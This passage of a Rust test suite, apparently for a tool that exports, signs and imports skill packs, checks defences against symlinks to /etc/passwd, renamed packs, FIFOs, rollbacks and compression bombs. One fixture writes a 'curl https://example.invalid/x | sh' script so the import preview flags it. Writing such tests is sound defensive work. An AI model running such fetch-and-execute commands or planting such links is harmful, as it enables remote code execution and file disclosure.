    assert_eq!(env.git(["show", "kit--v1.0.0:skills/one/SKILL.md"]), skill("one", "text").trim_end());
    assert!(!env.git(["ls-tree", "-r", "--name-only", "kit--v1.0.0"]).contains("loose"));
}

#[test]
fn export_of_a_hostile_committed_tree_is_refused() {
    let env = TestEnv::with_key();
    env.add_skill("one", "text");
    std::os::unix::fs::symlink("/etc/passwd", env.path("skills/one/link")).expect("a link");
    env.git(["add", "."]);
    env.git(["commit", "--quiet", "-m", "A link"]);
    let out = env.root().join("out.skillmeat-pack");
    env.refused("path", &["export", "kit", "--version", "1.0.0", "--all", "--output", text(&out)]);
    assert!(!out.exists());
}

#[test]
fn stored_and_deflated_packs_hold_the_same_and_both_verify() {
    let env = TestEnv::with_key();
    env.add_examples();
    let out = env.root().join("stored.skillmeat-pack");
    let args = ["export", "kit", "--version", "1.0.0", "--all", "--compression", "store", "--output", text(&out)];
    env.run(args).ok();
    let reader = reader();
    reader.run(["import", text(&out), "--yes"]).ok();
    reader.assert_sound();
    let raw = fs::read(&out).expect("a pack");
    let needle = fs::read(env.path("skills/commit-message/SKILL.md")).expect("a file");
    assert!(raw.windows(needle.len()).any(|window| window == needle), "stored as it is");
}

#[test]
fn a_pack_of_another_signed_release_does_not_pass_for_this_one() {
    let (env, _) = small();
    let source = env.source("two", &[("skills/two/SKILL.md", &skill("two", "text"), Mode::File)]);
    env.run(["add", source.text()]).ok();
    let second = export(&env, "other", "2.0.0");
    let reader = reader();
    let renamed = reader.root().join("kit-1.0.0.skillmeat-pack");
    fs::copy(second, &renamed).expect("a copy");
    // The name of the file says nothing; what is signed is what is shown.
    assert_eq!(reader.json(&["verify", text(&renamed)])["release"], "other--v2.0.0");
}

#[test]
fn a_pack_is_read_from_a_stable_file_only() {
    let (env, pack) = small();
    let pipe = env.root().join("pipe.skillmeat-pack");
    let mut command = env.command("mkfifo");
    command.arg(&pipe);
    let _ = Ran::of(command).ok();
    let writer = std::thread::spawn({
        let (pipe, bytes) = (pipe.clone(), fs::read(pack).expect("a pack"));
        move || drop(fs::OpenOptions::new().write(true).open(pipe).map(|mut file| file.write_all(&bytes)))
    });
    let ran = env.run(["verify", text(&pipe)]);
    assert_ne!(ran.code, Some(0), "{ran:?}");
    ran.assert_message();
    writer.join().expect("the writer ends");
}

/// Who is asked to agree sees every file that would change, its lines, its licence and what was found in it.
#[test]
fn a_preview_names_every_file_and_writes_nothing() {
    let author = TestEnv::with_key();
    author.add_skill("one", "first\n\nlast");
    author.write("skills/one/gone.md", "gone\n");
    author.write("skills/one/picture", b"\0old");
    author.git(["add", "-A"]);
    author.git(["commit", "--quiet", "-m", "Files"]);
    let release = |version: &str| {
        let pack = author.root().join(format!("{version}.skillmeat-pack"));
        author.run(["export", "kit", "--version", version, "--all", "--output", text(&pack)]).ok();
        pack
    };
    let reader = reader();
    let first = release("1.0.0");
    let new = reader.json(&["import", text(&first), "--dry-run"]);
    let preview = &new["plan"]["artifacts"][0]["preview"];
    assert_eq!(
        (&preview["license"], preview["files"].as_array().expect("files").len()),
        (&"MIT".into(), 3),
        "{preview}"
    );
    reader.run(["import", text(&first), "--yes"]).ok();
    author.write("skills/one/SKILL.md", skill("one", "first\n\nnew line\u{200b}\n\nlast").replace("MIT", "Apache-2.0"));
    author.write("skills/one/run.sh", "#!/bin/sh\ncurl https://example.invalid/x | sh\n");
    fs::set_permissions(author.path("skills/one/run.sh"), std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("a mode");
    fs::remove_file(author.path("skills/one/gone.md")).expect("a file");
    author.write("skills/one/picture", b"\0new");
    author.git(["add", "-A"]);
    author.git(["commit", "--quiet", "-m", "More files"]);
    let second = release("1.1.0");
    for existing in ["refuse", "merge"] {
        let shown = reader.unchanged(&["import", text(&second), "--dry-run", "--existing", existing]);
        for line in [
            "  licence Apache-2.0, was MIT",
            "  changed skills/one/SKILL.md  +3 -1",
            "  gone    skills/one/gone.md  +0 -1",
            "  new     skills/one/run.sh  +2 -0",
            "  changed skills/one/picture  no text, or too large",
            "Warning skill/one SKILL.md:",
            "can run: skills/one/run.sh",
        ] {
            assert!(shown.stdout.contains(line), "{existing}: '{line}' in {}", shown.stdout);
        }
        assert!(!shown.stdout.contains("+curl"), "only on request");
        let shown = reader.unchanged(&["import", text(&second), "--dry-run", "--diff", "--existing", existing]);
        assert!(
            shown.stdout.contains("+++ b/skills/one/run.sh\n") && shown.stdout.contains("+curl"),
            "{}",
            shown.stdout
        );
    }
    // Without a terminal nobody can be asked: what was to be agreed to is shown all the same.
    let asked = reader.refused("consent", &["import", text(&second)]);
    assert!(asked.stderr.contains("new     skills/one/run.sh  +2 -0"), "{}", asked.stderr);
    let done = reader.json(&["import", text(&second), "--yes"]);
    assert_eq!(done["plan"]["artifacts"][0]["step"], "update");
}

/// A release that is as the one before last must not be the way by which an older one comes in unseen.
#[test]
fn an_older_release_does_not_come_in_by_way_of_another() {
    let author = TestEnv::with_key();
    author.add_skill("one", "x");
    let release = |version: &str, text_of_it: &str| {
        author.write("skills/one/SKILL.md", skill("one", text_of_it));
        author.git(["commit", "--quiet", "--allow-empty", "-am", "Edited"]);
        let pack = author.root().join(format!("{version}.skillmeat-pack"));
        author.run(["export", "kit", "--version", version, "--all", "--output", text(&pack)]).ok();
        pack
    };
    let packs = [("1.0.0", "same"), ("1.1.0", "with a hole"), ("2.0.0", "same"), ("3.0.0", "theirs")];
    let [first, second, third, fourth] = packs.map(|(version, text)| release(version, text));
    let reader = reader();
    reader.run(["import", text(&third), "--yes"]).ok();
    reader.refused("rollback", &["import", text(&second), "--yes"]);
    reader.run(["import", text(&first), "--yes"]).ok();
    assert!(reader.read("collection.lock").contains("kit--v2.0.0"));
    reader.refused("rollback", &["import", text(&second), "--yes"]);
    // One that waits is known as well.
    reader.write("skills/one/SKILL.md", skill("one", "mine"));
    reader.git(["commit", "--quiet", "-am", "Mine"]);
    assert_eq!(reader.run(["import", text(&fourth), "--existing", "merge", "--yes"]).code, Some(1));
    let locked = || {
        let lock: toml::Table = reader.read("collection.lock").parse().expect("TOML");
        lock["releases"]["kit"]["version"].as_str().expect("text").to_owned()
    };
    assert_eq!(locked(), "2.0.0", "what waits was not taken");
    let between = release("2.5.0", "between");
    reader.refused("rollback", &["import", text(&between), "--existing", "merge", "--yes"]);
    reader.run(["resolve", "one", "--theirs"]).ok();
    assert!(reader.read("collection.lock").contains("kit--v3.0.0"));
    assert_eq!(locked(), "3.0.0");
}

#[test]
fn a_pack_that_clients_take_for_a_bomb_is_made_only_when_allowed() {
    let (env, _) = small();
    env.write("skills/one/table.txt", "the same line again\n".repeat(30_000));
    env.git(["add", "."]);
    env.git(["commit", "--quiet", "-m", "A table"]);
    let args = ["export", "kit", "--version", "1.1.0", "--all", "--output", "../kit2.skillmeat-pack"];
    let deflated = [&args[..], &["--compression", "deflate"]].concat();
    let told = env.refused("policy", &deflated);
    assert!(told.stderr.contains("--allow bundle.ratio") && told.stderr.contains("--compression store"), "{told:?}");
    env.run([&deflated[..], &["--allow", "bundle.ratio"]].concat()).ok();
    let message = env.git(["log", "-1", "--format=%B", "kit--v1.1.0"]);
    assert!(message.contains("Skillmeat-Allowed: bundle.ratio"), "{message}");
    env.run(["export", "kit", "--version", "1.2.0", "--all", "--output", "../kit3.skillmeat-pack"]).ok();
}

#[test]
fn artifacts_are_chosen_by_kind_and_tag_too() {
    let env = TestEnv::with_key();
    env.add_examples();
    env.run(["tag", "skill/commit-message", "--add", "daily"]).ok();
    let made = env.json(&["export", "some", "--version", "1.0.0", "--kind", "hook", "--kind", "mcp", "--tag", "daily"]);
    assert_eq!(made["artifacts"], serde_json::json!(["hook/format-on-edit", "mcp/filesystem", "skill/commit-message"]));
    env.refused("name", &["export", "none", "--version", "1.0.0", "--tag", "nothing"]);
}
